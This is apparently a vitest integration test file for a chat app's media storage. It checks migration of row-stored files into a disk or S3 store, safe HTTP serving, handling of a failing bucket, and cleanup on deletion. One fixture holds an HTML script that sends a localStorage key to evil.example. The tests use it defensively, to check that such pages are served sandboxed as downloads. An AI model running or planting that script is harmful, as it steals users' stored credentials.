// Media out of the database rows, on either engine and either store: files kept in rows before
// migration 331 are moved into the store after start-up and served the same over HTTP; new inbound
// copies and visitor uploads go to the store with an empty row; deleting media deletes the files.
import { randomUUID } from 'node:crypto';
import { get, type IncomingHttpHeaders } from 'node:http';
import { dirname, resolve } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase } from '../../../src/db/database.js';
import { migrations } from '../../../src/db/migrations/index.js';
import { buildApp } from '../../../src/http/app.js';
import { startServer } from '../../../src/server.js';
import { copyInboundMedia } from '../../../src/services/inbound/media.js';
import { deleteMedia } from '../../../src/services/media/files.js';
import type { MediaStore } from '../../../src/services/media/store.js';
import { createOrganization, deleteOrganization } from '../../../src/services/tenancy/organizations.js';
import { createWidget, deleteWidget, loadWidget, widgetInput } from '../../../src/services/widgets/settings.js';
import { startFakeS3, type FakeS3 } from '../../fakes/s3.js';
import { makeTestContext } from '../../support/context.js';
import { insertOldOrganization, migrateUpTo } from '../../support/migrations.js';
import { waitFor } from '../../support/wait.js';
import { makeInboundMessage, makeNumber } from '../../support/factories.js';

const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
const SCRIPT_PAGE = Buffer.from('<!doctype html><script>fetch("//evil.example/?k="+localStorage["switchboard.key"])</script>');
const PDF = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(300_000, 0x20), Buffer.from('\n%%EOF\n')]);

/** Whether the store holds an object under `key` (its stream closed again). */
async function inStore(ctx: { media: MediaStore }, key: string | null): Promise<boolean> {
  const object = key ? await ctx.media.get(key) : undefined;
  object?.body.destroy();
  return object !== undefined;
}

/** A GET over a connection of its own, closed after the answer (a kept-alive one would hold the server's stop). */
function httpGet(url: string): Promise<{ status: number; headers: IncomingHttpHeaders; bytes: Buffer }> {
  return new Promise((resolve, reject) => {
    get(url, { agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, bytes: Buffer.concat(chunks) }));
      res.on('error', reject);
    }).on('error', reject);
  });
}

type FreshDatabase = () => Promise<{ url: string; drop: () => Promise<void> }>;

/** The migration just before 331: the schema whose rows hold their files. */
const BEFORE_331 = Object.keys(migrations)
  .filter((name) => name < '331')
  .sort()
  .at(-1)!;

/** A database at BEFORE_331 holding two media copies and a visitor upload in their rows. */
async function legacyDatabase(url: string): Promise<{ uploadId: string }> {
  const database = openDatabase(url);
  try {
    const db = await migrateUpTo(database, BEFORE_331);
    const at = '2026-01-01T00:00:00.000Z';
    await insertOldOrganization(db, 'org-legacy', 'Legacy', at);
    await db
      .insertInto('widgets')
      .values({
        id: 'w-legacy',
        organization_id: 'org-legacy',
        public_key: 'wpk_legacy',
        name: 'Site',
        allowed_origins: '["*"]',
        greeting: null,
        settings: '{}',
        created_at: at,
        updated_at: at,
      })
      .execute();
    await db
      .insertInto('widget_sessions')
      .values({
        id: 's-legacy',
        widget_id: 'w-legacy',
        organization_id: 'org-legacy',
        contact_id: 'c-legacy',
        token_hash: 'x',
        visitor_name: null,
        created_at: at,
        last_seen_at: at,
      })
      .execute();
    const copy = (id: string, messageId: number, mimeType: string, filename: string, bytes: Buffer) => ({
      id,
      message_id: messageId,
      organization_id: 'org-legacy',
      mime_type: mimeType,
      filename,
      size: bytes.length,
      bytes,
      created_at: at,
    });
    await db
      .insertInto('message_media')
      .values([copy('LegacyPngCopy000000000', 1, 'image/png', 'photo.png', PNG), copy('LegacyHtmlCopy00000000', 2, 'text/html', 'page.html', SCRIPT_PAGE)])
      .execute();
    const uploadId = randomUUID();
    await db
      .insertInto('widget_uploads')
      .values({ id: uploadId, session_id: 's-legacy', filename: 'receipt.pdf', mime_type: 'application/pdf', bytes: PDF, created_at: at })
      .execute();
    return { uploadId };
  } finally {
    await database.close();
  }
}

export function describeMediaStorage(
  engine: string,
  freshDatabase: FreshDatabase,
  storeIn: 'disk' | 's3',
  directory: () => string | undefined = () => undefined,
): void {
  describe(`media out of the rows (${engine}, ${storeIn})`, () => {
    let s3: FakeS3 | undefined;
    let drop: (() => Promise<void>) | undefined;
    const closing: Array<() => Promise<unknown>> = [];

    beforeAll(async () => {
      if (storeIn === 's3') s3 = await startFakeS3();
    });
    afterAll(async () => {
      await s3?.close();
    });
    afterEach(async () => {
      for (const close of closing.splice(0).reverse()) await close();
      await drop?.();
    });

    async function context(url: string, env: Record<string, string> = {}) {
      const store: Record<string, string> = s3
        ? {
            MEDIA_STORE: `s3://${s3.bucket}/switchboard`,
            MEDIA_S3_ENDPOINT: s3.url,
            MEDIA_S3_REGION: s3.region,
            AWS_ACCESS_KEY_ID: s3.accessKeyId,
            AWS_SECRET_ACCESS_KEY: s3.secretAccessKey,
          }
        : directory()
          ? { MEDIA_STORE: directory()! }
          : {};
      const ctx = await makeTestContext({ databaseUrl: url, env: { PUBLIC_URL: 'https://chat.example.com', ...store, ...env } });
      closing.push(() => ctx.database.close());
      return ctx;
    }

    async function freshContext() {
      const fresh = await freshDatabase();
      drop = fresh.drop;
      return context(fresh.url);
    }

    it('moves the files an upgraded database kept in its rows into the store, and serves them the same over HTTP', async () => {
      const fresh = await freshDatabase();
      drop = fresh.drop;
      const { uploadId } = await legacyDatabase(fresh.url);

      // Migrated, not yet moved: served from the rows.
      const before = await context(fresh.url);
      const app = await buildApp(before);
      closing.push(() => app.close());
      const early = await app.inject({ method: 'GET', url: '/api/media/LegacyPngCopy000000000' });
      expect(early.statusCode).toBe(200);
      expect(early.rawPayload.equals(PNG)).toBe(true);
      expect(early.headers['content-type']).toBe('image/png');

      // A start moves them, in the background.
      const ctx = await context(fresh.url, { PORT: '0' });
      const server = await startServer(ctx);
      closing.push(() => server.stop());
      const rowsLeft = async () => {
        const copies = await ctx.db.selectFrom('message_media').select('id').where('storage_key', 'is', null).execute();
        const uploads = await ctx.db.selectFrom('widget_uploads').select('id').where('storage_key', 'is', null).execute();
        return copies.length + uploads.length;
      };
      await waitFor(async () => (await rowsLeft()) === 0, { what: 'the files to leave their rows' });
      const copies = await ctx.db.selectFrom('message_media').select(['id', 'bytes', 'storage_key', 'size']).orderBy('id').execute();
      const uploads = await ctx.db.selectFrom('widget_uploads').select(['id', 'bytes', 'storage_key', 'size']).execute();
      expect(copies.map((c) => [c.id, Buffer.from(c.bytes).length, c.size])).toEqual([
        ['LegacyHtmlCopy00000000', 0, SCRIPT_PAGE.length],
        ['LegacyPngCopy000000000', 0, PNG.length],
      ]);
      expect(uploads.map((u) => [u.id, Buffer.from(u.bytes).length, u.size])).toEqual([[uploadId, 0, PDF.length]]);
      for (const { storage_key } of [...copies, ...uploads]) expect(await inStore(ctx, storage_key)).toBe(true);
      // By default the files are kept beside the SQLite file.
      if (!s3 && !directory() && fresh.url.startsWith('sqlite:')) expect(ctx.media.location).toBe(resolve(dirname(fresh.url.slice('sqlite:'.length)), 'media'));
      if (s3) expect(s3.objects.size).toBe(3);

      const png = await httpGet(`${server.url}/api/media/LegacyPngCopy000000000`);
      expect(png.status).toBe(200);
      expect(png.headers['content-type']).toBe('image/png');
      expect(png.headers['content-disposition']).toBe('inline; filename="photo.png"');
      expect(png.headers['x-content-type-options']).toBe('nosniff');
      expect(png.bytes.equals(PNG)).toBe(true);

      const html = await httpGet(`${server.url}/api/media/LegacyHtmlCopy00000000`);
      expect(html.headers['content-type']).toBe('application/octet-stream');
      expect(html.headers['content-disposition']).toBe('attachment; filename="page.html"');
      expect(html.headers['content-security-policy']).toBe('sandbox');
      expect(html.bytes.equals(SCRIPT_PAGE)).toBe(true);

      const pdf = await httpGet(`${server.url}/api/widget/uploads/${uploadId}`);
      expect(pdf.headers['content-type']).toBe('application/pdf');
      expect(pdf.headers['content-length']).toBe(String(PDF.length));
      expect(pdf.bytes.equals(PDF)).toBe(true);
    });

    it('keeps a new inbound copy and a visitor upload in the store, not the row, and serves both', async () => {
      const ctx = await freshContext();
      const app = await buildApp(ctx);
      closing.push(() => app.close());
      const org = await createOrganization(ctx, { name: 'Shop' });
      const number = await makeNumber(ctx, { organization_id: org.id });
      const message = await makeInboundMessage(ctx, number, {
        from: '+5511987654321',
        body: null,
        media: { type: 'document', url: `data:application/pdf;base64,${PDF.toString('base64')}`, mimeType: 'application/pdf', filename: 'order.pdf' },
      });
      await copyInboundMedia(ctx, { messageId: message.id });
      const copy = await ctx.db.selectFrom('message_media').selectAll().where('message_id', '=', message.id).executeTakeFirstOrThrow();
      expect(Buffer.from(copy.bytes).length).toBe(0);
      expect(copy.storage_key).toMatch(/^inbound\//);
      if (s3) expect(s3.objects.get(`switchboard/${copy.storage_key}`)?.bytes.equals(PDF)).toBe(true);
      const served = await app.inject({ method: 'GET', url: `/api/media/${copy.id}` });
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-disposition']).toBe('inline; filename="order.pdf"');
      expect(served.rawPayload.equals(PDF)).toBe(true);

      const upload = await visitorUpload(ctx, app, org.id, 'image/png', PNG, 'receipt.png');
      const row = await ctx.db.selectFrom('widget_uploads').selectAll().where('id', '=', upload.id).executeTakeFirstOrThrow();
      expect([Buffer.from(row.bytes).length, row.size]).toEqual([0, PNG.length]);
      expect(row.storage_key).toMatch(/^uploads\//);
      const shown = await app.inject({ method: 'GET', url: `/api/widget/uploads/${upload.id}` });
      expect(shown.headers['content-type']).toBe('image/png');
      expect(shown.rawPayload.equals(PNG)).toBe(true);
    });

    // A bucket can be made to fail over HTTP; a directory cannot, short of changing its permissions under the test.
    if (storeIn === 's3')
      it('answers 503 with a sentence while the bucket fails, for a file served and a file sent', async () => {
        const ctx = await freshContext();
        const app = await buildApp(ctx);
        closing.push(() => app.close());
        const org = await createOrganization(ctx, { name: 'Shop' });
        const served = await visitorUpload(ctx, app, org.id, 'image/png', PNG, 'a.png');
        s3!.failNext(100, { status: 500, body: '<Error><Code>InternalError</Code></Error>' });
        try {
          const read = await app.inject({ method: 'GET', url: `/api/widget/uploads/${served.id}` });
          expect(read.statusCode).toBe(503);
          expect(read.json()).toMatchObject({ ok: false, code: 'MEDIA_STORE_UNAVAILABLE' });
          const widget = await createWidget(ctx, org.id, widgetInput.parse({ name: 'Other', allowedOrigins: ['*'] }));
          const headers = { origin: 'https://shop.example' };
          const session = (await app.inject({ method: 'POST', url: `/api/widget/${widget.publicKey}/sessions`, headers, payload: {} })).json();
          const sent = await app.inject({
            method: 'POST',
            url: `/api/widget/sessions/${session.sessionId}/messages`,
            headers: { ...headers, authorization: `Bearer ${session.token}` },
            payload: { media: { dataUrl: `data:image/png;base64,${PNG.toString('base64')}`, filename: 'b.png' } },
          });
          expect(sent.statusCode).toBe(503);
          expect(sent.json().error).toMatch(/try again shortly/);
          // Nothing half-stored: no message and no upload row for the refused file.
          expect(await ctx.db.selectFrom('widget_uploads').select('id').execute()).toHaveLength(1);
        } finally {
          s3!.reset();
        }
      });

    it('deletes the files with their media: by message, with a widget, with an organization; another organization keeps its own', async () => {
      const ctx = await freshContext();
      const app = await buildApp(ctx);
      closing.push(() => app.close());
      const stored = (key: string | null) => inStore(ctx, key);
      const copyFor = async (organizationId: string) => {
        const number = await makeNumber(ctx, { organization_id: organizationId });
        const message = await makeInboundMessage(ctx, number, {
          from: '+5511987654321',
          body: null,
          media: { type: 'image', url: `data:image/png;base64,${PNG.toString('base64')}` },
        });
        await copyInboundMedia(ctx, { messageId: message.id });
        const row = await ctx.db.selectFrom('message_media').select(['id', 'storage_key']).where('message_id', '=', message.id).executeTakeFirstOrThrow();
        return { messageId: message.id, ...row };
      };
      const shop = await createOrganization(ctx, { name: 'Shop' });
      const other = await createOrganization(ctx, { name: 'Other' });
      const [first, second, others] = [await copyFor(shop.id), await copyFor(shop.id), await copyFor(other.id)];

      expect(await deleteMedia(ctx, { messageIds: [first.messageId] })).toBe(1);
      expect(await stored(first.storage_key)).toBe(false);
      expect((await app.inject({ method: 'GET', url: `/api/media/${first.id}` })).statusCode).toBe(404);
      expect(await stored(second.storage_key)).toBe(true);

      const upload = await visitorUpload(ctx, app, shop.id, 'application/pdf', PDF, 'a.pdf');
      await deleteWidget(ctx, await loadWidget(ctx, upload.widgetId));
      expect(await stored(upload.storageKey)).toBe(false);
      expect((await app.inject({ method: 'GET', url: `/api/widget/uploads/${upload.id}` })).statusCode).toBe(404);

      const kept = await visitorUpload(ctx, app, shop.id, 'image/png', PNG, 'b.png');
      const othersUpload = await visitorUpload(ctx, app, other.id, 'image/png', PNG, 'c.png');
      await deleteOrganization(ctx, shop.id);
      expect(await stored(second.storage_key)).toBe(false);
      expect(await stored(kept.storageKey)).toBe(false);
      expect(await ctx.db.selectFrom('message_media').select('id').where('organization_id', '=', shop.id).execute()).toEqual([]);
      expect(await stored(others.storage_key)).toBe(true);
      expect(await stored(othersUpload.storageKey)).toBe(true);
      expect((await app.inject({ method: 'GET', url: `/api/media/${others.id}` })).statusCode).toBe(200);
    });
  });
}

/** A visitor of a new widget of the organization attaches a file over the widget API. */
async function visitorUpload(
  ctx: Awaited<ReturnType<typeof makeTestContext>>,
  app: Awaited<ReturnType<typeof buildApp>>,
  organizationId: string,
  type: string,
  bytes: Buffer,
  filename: string,
) {
  const widget = await createWidget(ctx, organizationId, widgetInput.parse({ name: 'Site', allowedOrigins: ['*'] }));
  const headers = { origin: 'https://shop.example' };
  const session = await app.inject({ method: 'POST', url: `/api/widget/${widget.publicKey}/sessions`, headers, payload: {} });
  expect(session.statusCode).toBe(201);
  const { sessionId, token } = session.json() as { sessionId: string; token: string };
  const sent = await app.inject({
    method: 'POST',
    url: `/api/widget/sessions/${sessionId}/messages`,
    headers: { ...headers, authorization: `Bearer ${token}` },
    payload: { media: { dataUrl: `data:${type};base64,${bytes.toString('base64')}`, filename } },
  });
  expect(sent.statusCode).toBe(201);
  const id = String(sent.json().message.media.url).split('/').at(-1)!;
  const row = await ctx.db.selectFrom('widget_uploads').select('storage_key').where('id', '=', id).executeTakeFirstOrThrow();
  return { id, widgetId: widget.id, storageKey: row.storage_key };
}
